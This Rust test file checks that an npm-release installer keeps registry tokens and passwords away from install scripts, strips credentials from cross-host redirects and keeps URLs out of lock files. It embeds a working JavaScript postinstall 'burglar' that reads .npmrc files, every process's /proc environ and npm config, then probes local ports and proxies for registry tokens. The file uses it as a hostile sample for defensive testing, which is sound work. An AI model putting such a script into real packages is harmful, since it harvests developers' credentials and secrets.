//! Who a user is to a registry: the registry learns it, and no install script does.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::json;

use crate::machine::{Machine, tree};
use crate::registry::{Fault, Registry};

/// Looks for what a script of a release can get hold of, and writes it down.
const BURGLAR: &str = r"
const fs = require('fs'), http = require('http'), net = require('net'), path = require('path');
const { execSync } = require('child_process');
const found = { environment: process.env, files: {}, answers: [] };
const read = (file) => {
  try { found.files[file] = fs.readFileSync(file, 'utf8'); } catch (error) { return; }
};
const env = process.env;
const files = [env.npm_config_userconfig, env.npm_config_globalconfig];
for (const start of [env.HOME, env.INIT_CWD, env.npm_config_local_prefix, process.cwd()]) {
  for (let at = start; at && at !== '/'; at = path.dirname(at)) files.push(path.join(at, '.npmrc'));
}
for (const process of fs.readdirSync('/proc')) {
  if (/^\d+$/.test(process)) files.push(`/proc/${process}/environ`);
}
for (const file of files.filter(Boolean)) read(file);
read('/proc/self/environ');
for (const command of ['config ls -l', 'config ls -l --json', 'whoami']) {
  try {
    found[command] = execSync(`npm ${command}`, { encoding: 'utf8', stdio: 'pipe' });
  } catch (error) { found[command] = `${error.stdout}${error.stderr}`; }
}
const listening = fs.readFileSync('/proc/net/tcp', 'utf8').split('\n')
  .map((line) => line.trim().split(/\s+/))
  .filter((words) => words[3] === '0A')
  .map((words) => parseInt(words[1].split(':')[1], 16));
found.listening = listening;
const ask = (options) => new Promise((resolve) => {
  const request = http.request({ agent: new http.Agent(), ...options }, (answer) => {
    let body = '';
    answer.on('data', (data) => { body += data; });
    answer.on('end', () => resolve(`${answer.statusCode} ${JSON.stringify(answer.headers)} ${body}`));
  });
  request.on('error', (error) => resolve(error.code)).end();
});
const tunnel = (port, to) => new Promise((resolve) => {
  const socket = net.connect(port, '127.0.0.1');
  let said = '';
  socket.on('data', (data) => {
    if (!said) socket.write(`GET /-/whoami HTTP/1.1\r\nhost: ${to}\r\nconnection: close\r\n\r\n`);
    said += data;
  });
  socket.on('error', () => {}).on('close', () => resolve(said));
  socket.write(`CONNECT ${to} HTTP/1.1\r\nhost: ${to}\r\n\r\n`);
});
const paths = ['/', '/-/whoami', '//-/whoami', '/%2d/whoami', '/x/..%2f-/whoami', '/-/npm/v1/tokens',
  '/openclaw', '/@team%2ftool'];
(async () => {
  for (const port of listening) {
    for (const url of paths) found.answers.push(await ask({ port, path: url }));
    for (const host of HOSTS) {
      for (const url of paths) {
        for (const method of ['GET', 'POST']) {
          const path = `http://${host}${url}`;
          const answer = await ask({ port, path, method, headers: { host } });
          found.answers.push(`${method} ${path} ${answer}`);
        }
      }
      found.answers.push(await tunnel(port, host));
    }
  }
  fs.writeFileSync('found.json', JSON.stringify(found));
})();
";

#[test]
fn an_install_script_gets_hold_of_no_credential_and_each_registry_is_told_its_own() {
    let mut machine = Machine::new();
    let (team, plugins) = (Registry::empty(), Registry::empty());
    let (token, password, other) =
        ("npm_made-up-of-the-user", "made-up-password", "npm_made-up-of-the-shell");
    let encoded = STANDARD.encode(password);
    let basic = STANDARD.encode(format!("made-up-name:{password}"));
    machine.registry.ask_for_token(token);
    team.ask_for(format!("Basic {basic}"));
    plugins.ask_for_token(other);
    machine.set("NPM_TOKEN", token);
    machine.set(&format!("npm_config_//{}/:_authToken", plugins.host()), other);
    machine.add_to_npmrc(&format!("//{}/:_authToken=${{NPM_TOKEN}}\n", machine.registry.host()));
    machine
        .add_to_npmrc(&format!("mine=${{NPM_TOKEN}}\n@openclaw:registry={}\n", plugins.origin()));
    let project = format!(
        "@team:registry={}\n//{host}/:username=made-up-name\n//{host}/:_password={encoded}\n",
        team.origin(),
        host = team.host(),
    );
    fs_err::write(machine.work().join(".npmrc"), project).unwrap();

    team.publish("@team/tool", "1.0.0", json!({}), &[]);
    machine.registry.publish_plugin(&[]);
    let plugin = json!({
        "dependencies": { "@openai/codex": "0.154.0" }, "peerDependencies": { "openclaw": "*" },
    });
    plugins.publish("@openclaw/codex", "2026.5.18", plugin, &[("index.js", "")]);
    let hosts = [&machine.registry, &team, &plugins].map(Registry::host);
    let burglar = BURGLAR.replace("HOSTS", &json!(hosts).to_string());
    let release = json!({
        "dependencies": { "tiny-dep": "^1.0.0", "@team/tool": "1.0.0" },
        "scripts": { "postinstall": "node burglar.js" },
    });
    machine.registry.publish_core_with("2026.5.18", release, &[("burglar.js", &burglar)]);

    let (run, report) = machine.run_json("check 2026.5.18");
    run.exits(0);
    assert_eq!(report["install_egress"]["note"], json!(null), "there is no enclosure");
    let core = machine.prefix("2026.5.18").join("core");
    let found = fs_err::read_to_string(core.join("node_modules/openclaw/found.json")).unwrap();
    for secret in [token, password, &encoded, &basic, other, "made-up-name"] {
        let around = found.find(secret).map(|at| &found[at.saturating_sub(300)..at]);
        assert_eq!(around, None, "{secret}");
        for (file, (_, content)) in tree(&machine.cache()) {
            let found = content.windows(secret.len()).any(|part| part == secret.as_bytes());
            assert!(!found, "{secret} is in {file}");
        }
    }
    // It did look: where npm's settings are, and at what can be asked.
    assert!(found.contains("fetch-retry-mintimeout"), "{found}");
    assert!(found.contains("GET http://") && found.contains("dist-tags"), "{found}");
    for (registry, header) in [
        (&machine.registry, format!("Bearer {token}")),
        (&team, format!("Basic {basic}")),
        (&plugins, format!("Bearer {other}")),
    ] {
        let seen = registry.seen();
        let tarballs: Vec<_> = seen.iter().filter(|seen| seen.path.contains("/-/")).collect();
        assert!(!tarballs.is_empty(), "{seen:?}");
        assert!(tarballs.iter().all(|s| s.authorization.as_ref() == Some(&header)), "{seen:?}");
        let own = |authorization: &String| *authorization == header;
        assert!(seen.iter().filter_map(|seen| seen.authorization.as_ref()).all(own), "{seen:?}");
    }
}

#[test]
fn a_redirect_to_another_host_takes_no_credential_along() {
    let (mut machine, elsewhere) = (Machine::new(), Registry::empty());
    elsewhere.publish("tiny-dep", "1.0.0", json!({}), &[("index.js", "module.exports = 1;\n")]);
    machine.registry.ask_for_token("npm_made-up");
    machine.set("NPM_TOKEN", "npm_made-up");
    machine.add_to_npmrc(&format!("//{}/:_authToken=${{NPM_TOKEN}}\n", machine.registry.host()));
    let tarball = "/tiny-dep/-/tiny-dep-1.0.0.tgz";
    let there = format!("http://{}{tarball}", elsewhere.host());
    machine.registry.break_path(tarball, Fault::Redirect(there));
    let (run, report) = machine.run_json("check 2026.5.18");
    run.exits(125);
    assert!(report["reason"]["why"].as_str().unwrap().contains(&elsewhere.host()), "{report:#}");
    assert!(elsewhere.seen().is_empty());

    machine.run(&format!("check 2026.5.18 --open-install {}", elsewhere.host())).exits(0);
    let seen = elsewhere.seen();
    assert!(!seen.is_empty() && seen.iter().all(|seen| seen.authorization.is_none()), "{seen:?}");
}

#[test]
fn a_lock_file_has_no_address_of_where_the_tarballs_came_from() {
    let machine = Machine::new();
    machine.registry.publish_plugin(&["2026.5.18"]);
    machine.run("check 2026.5.18").exits(0);
    let locks: Vec<_> = tree(&machine.prefix("2026.5.18"))
        .into_iter()
        .filter(|(file, _)| file.as_str().ends_with("package-lock.json"))
        .collect();
    // That of the core, and that of the plugin with npm's hidden one.
    assert_eq!(locks.len(), 3, "{locks:?}");
    for (file, (_, text)) in locks {
        let text = String::from_utf8(text).unwrap();
        assert!(text.contains("sha512-") && !text.contains("http"), "{file}: {text}");
    }
}
